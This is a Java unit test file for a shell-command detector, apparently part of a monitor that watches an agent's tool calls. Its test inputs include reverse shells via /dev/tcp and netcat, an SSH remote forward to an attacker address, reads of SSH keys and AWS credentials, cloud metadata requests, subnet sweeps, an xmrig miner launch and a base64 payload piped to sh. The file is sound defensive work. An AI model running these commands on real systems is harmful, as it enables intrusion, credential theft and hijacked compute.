package dev.ale.monitor.detect;

import dev.ale.core.event.Category;
import dev.ale.core.event.SafetyEvent.Severity;
import dev.ale.monitor.rules.RuleId;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import java.util.Base64;

import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.stream.Collectors;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

class CommandLineRulesTest {

    private final CommandLineDetector detector = CommandLineDetector.standard();

    private List<String> rulesOf(String command) {
        return detector.inspectShellCommand(command).stream().map(Detection::ruleId).toList();
    }

    @ParameterizedTest(name = "{1} <- {2}")
    @MethodSource("dev.ale.monitor.detect.CommandLineCorpus#positives")
    void knownActsRaiseTheirRule(Category category, String rule, String command) {
        List<Detection> found = detector.inspectShellCommand(command);
        assertThat(found).as("detections for %s", command)
                .anySatisfy(d -> {
                    assertThat(d.ruleId()).isEqualTo(rule);
                    assertThat(d.category()).isEqualTo(category);
                });
    }

    @ParameterizedTest(name = "{0} <- {1}")
    @MethodSource("dev.ale.monitor.detect.CommandLineCorpus#argvPositives")
    void knownActsInAProcessArgvRaiseTheirRule(String rule, List<String> argv) {
        assertThat(detector.inspectArgv(argv)).extracting(Detection::ruleId).as("argv %s", argv).contains(rule);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("dev.ale.monitor.detect.CommandLineCorpus#negatives")
    void ordinaryWorkRaisesNothing(String command) {
        assertThat(detector.inspectShellCommand(command)).as("detections for %s", command).isEmpty();
    }

    @Test
    void theCorpusIsLargeAndCoversEveryRule() {
        List<Object[]> positives = CommandLineCorpus.positives().map(a -> a.get()).toList();
        assertThat(positives).hasSizeGreaterThanOrEqualTo(80);
        assertThat(CommandLineCorpus.negatives().count()).isGreaterThanOrEqualTo(60);
        Set<Object> covered = positives.stream().map(a -> a[1]).collect(Collectors.toSet());
        assertThat(covered).containsAll(CommandLineRules.ruleIds().stream().map(RuleId::id).toList());
    }

    @Test
    void eachCommandLineRuleHasACatalogueEntryOfItsOwnAndNoneIsAGpuRule() {
        var ids = CommandLineRules.ruleIds();
        assertThat(ids).hasSize(Rule.values().length);
        assertThat(ids).extracting(RuleId::category).doesNotContain(Category.GPU);
    }

    @Test
    void aDetectionCarriesItsRuleCategorySeverityDetailAndEvidence() {
        String command = "ssh -fNR 2222:127.0.0.1:22 attacker@203.0.113.5";
        Detection d = detector.inspectShellCommand(command).stream()
                .filter(x -> x.ruleId().equals("tunnel.ssh.remote-forward")).findFirst().orElseThrow();
        assertThat(d.category()).isEqualTo(Category.TUNNEL);
        assertThat(d.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(d.detail()).contains("-R 2222:127.0.0.1:22").contains("remote port forward");
        assertThat(d.evidence()).containsEntry("match", "-R 2222:127.0.0.1:22").containsEntry("command", command);
    }

    @Test
    void persistenceIsLowAndSaysTheProcessMayOutliveTheCall() {
        List<Detection> found = detector.inspectShellCommand("nohup ./worker > log 2>&1 &");
        assertThat(found).extracting(Detection::ruleId).containsExactlyInAnyOrder("persistence.nohup", "persistence.background");
        assertThat(found).allSatisfy(d -> {
            assertThat(d.severity()).isEqualTo(Severity.LOW);
            assertThat(d.category()).isEqualTo(Category.PERSISTENCE);
            assertThat(d.detail()).contains("process may outlive the tool call");
        });
    }

    @Test
    void sshDaemonFlagsAreBothATunnelAndPersistence() {
        assertThat(rulesOf("ssh -fNR 9000:localhost:22 u@h"))
                .containsExactlyInAnyOrder("tunnel.ssh.remote-forward", "persistence.ssh-background");
    }

    @Test
    void oneActGivesOneDetectionPerRule() {
        List<String> rules = rulesOf("ssh -R 1:a:1 -R 2:b:2 h; ssh -R 3:c:3 h");
        assertThat(rules).containsExactly("tunnel.ssh.remote-forward");
    }

    @Test
    void specificRulesHideTheGenericOnesForTheSameAct() {
        assertThat(rulesOf("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"))
                .contains("reverse-shell.interactive-dev-tcp").doesNotContain("reverse-shell.dev-tcp");
        assertThat(rulesOf("for i in $(seq 1 254); do echo > /dev/tcp/10.0.0.$i/22; done"))
                .contains("probe.dev-tcp-sweep").doesNotContain("reverse-shell.dev-tcp");
        assertThat(rulesOf("ssh -L 127.0.0.1:8080:10.0.0.5:80 u@h"))
                .contains("tunnel.ssh.local-forward").doesNotContain("tunnel.forward-spec");
        assertThat(rulesOf("curl http://169.254.169.254/latest/meta-data/"))
                .contains("metadata.endpoint").doesNotContain("metadata.api-path");
        assertThat(rulesOf("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f"))
                .contains("reverse-shell.fifo-netcat").doesNotContain("reverse-shell.shell-pipe");
        assertThat(rulesOf("./xmrig -o stratum+tcp://pool.supportxmr.com:3333"))
                .containsExactlyInAnyOrder("mining.argv.stratum-url", "mining.program.known-miner");
    }

    @Test
    void aTypicalMinerLaunchIsSeenFromSeveralSides() {
        List<Detection> found = detector.inspectShellCommand(
                "nohup ./xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level=1 --cpu-priority 5 > /dev/null 2>&1 &");
        assertThat(found).extracting(Detection::ruleId).containsExactlyInAnyOrder(
                "mining.argv.stratum-url", "mining.argv.miner-flag", "mining.program.known-miner",
                "persistence.nohup", "persistence.background");
    }

    @Test
    void decodedPayloadsSayWhereTheyCameFrom() {
        Detection d = detector.inspectShellCommand(
                "echo eG1yaWcgLW8gc3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMw== | base64 -d | sh").getFirst();
        assertThat(d.ruleId()).isEqualTo("mining.argv.stratum-url");
        assertThat(d.evidence()).containsEntry("encoding", "base64");
        assertThat(d.evidence().get("payload")).startsWith("xmrig -o stratum+tcp://pool.example:3333");
        assertThat(d.detail()).contains("base64");
    }

    @Test
    void persistenceInsideAPayloadThatIsOnlyDecodedIsNotReported() {
        // "nohup xmrig &" decoded but not run: the miner is reported, the nohup is not.
        String b64 = Base64.getEncoder().encodeToString("nohup xmrig -c c.json &".getBytes());
        assertThat(rulesOf("echo " + b64 + " | base64 -d > x.txt")).containsExactly("mining.program.known-miner");
        assertThat(rulesOf("echo " + b64 + " | base64 -d | sh"))
                .containsExactlyInAnyOrder("mining.program.known-miner", "persistence.nohup", "persistence.background");
    }

    @Test
    void listingACredentialIsNotReadingIt() {
        assertThat(rulesOf("ls -la ~/.ssh/id_rsa")).isEmpty();
        assertThat(rulesOf("stat ~/.aws/credentials")).isEmpty();
        assertThat(rulesOf("echo ~/.aws/credentials")).isEmpty();
        assertThat(rulesOf("cat ~/.ssh/id_rsa")).containsExactly("credential.ssh-private-key");
        assertThat(rulesOf("wc -c < ~/.aws/credentials")).containsExactly("credential.cloud-cli");
        assertThat(rulesOf("cp mykey ~/.ssh/id_rsa")).isEmpty();
    }

    @Test
    void aLoopIsASweepOnlyWhenTheAddressHoldsTheLoopVariable() {
        assertThat(rulesOf("for i in 1 2 3; do ping -c1 10.0.0.$i; done")).containsExactly("probe.ping-sweep");
        assertThat(rulesOf("for i in 1 2 3; do ping -c1 $TARGET; done")).isEmpty();
        assertThat(rulesOf("ping -c1 10.0.0.$i")).isEmpty();
        assertThat(rulesOf("for i in 1 2 3; do ping -c1 127.0.0.$i; done")).isEmpty();
    }

    @Test
    void argvIsNotReadAsShell() {
        assertThat(detector.inspectArgv(List.of("echo", "; nc -e /bin/sh 203.0.113.5 4444 &"))).isEmpty();
        assertThat(detector.inspectArgv(List.of("sshd: root@pts/0"))).isEmpty();
        assertThat(detector.inspectArgv(List.of())).isEmpty();
        assertThat(detector.inspectArgv(List.of("python3", "-m", "http.server", "8000"))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"nvidia-smi", "CUDA_VISIBLE_DEVICES=1,2 python3 train.py", "export CUDA_VISIBLE_DEVICES=",
            "nvidia-smi --query-compute-apps=pid,used_memory --format=csv"})
    void gpuUseIsNotACommandLineDetection(String command) {
        assertThat(detector.inspectShellCommand(command)).isEmpty();
    }

    @Test
    void randomInputNeverThrows() {
        Random random = new Random(7);
        List<String> pieces = new ArrayList<>(List.of(" ", "|", ";", "&", "&&", "$(", ")", "`", "'", "\"", "\\", "<<", "EOF\n",
                ">", "<", "(", "{", "}", "ssh", "-R", "nc", "-e", "sh", "-c", "bash", "/dev/tcp/", "10.0.0.$i", "for i in",
                "do", "done", "echo", "base64", "-d", "eG1yaWc=", "xargs", "-I{}", "=", "$'\\x", "nohup", "env", "X=1",
                "socat", "exec:", "tcp:", "python3", "stratum+tcp://", "~/.aws", "\n", "*", "read", "while", "169.254.169.254"));
        Set<String> seen = new HashSet<>();
        for (int round = 0; round < 5_000; round++) {
            StringBuilder sb = new StringBuilder();
            int n = random.nextInt(25);
            for (int i = 0; i < n; i++) {
                sb.append(random.nextInt(8) == 0 ? String.valueOf((char) random.nextInt(0x800)) : pieces.get(random.nextInt(pieces.size())));
            }
            String command = sb.toString();
            if (!seen.add(command)) continue;
            assertThatCode(() -> detector.inspectShellCommand(command)).as("input %s", command).doesNotThrowAnyException();
            List<String> argv = List.of(command.split(" ", -1));
            assertThatCode(() -> detector.inspectArgv(argv)).as("argv %s", argv).doesNotThrowAnyException();
        }
    }
}
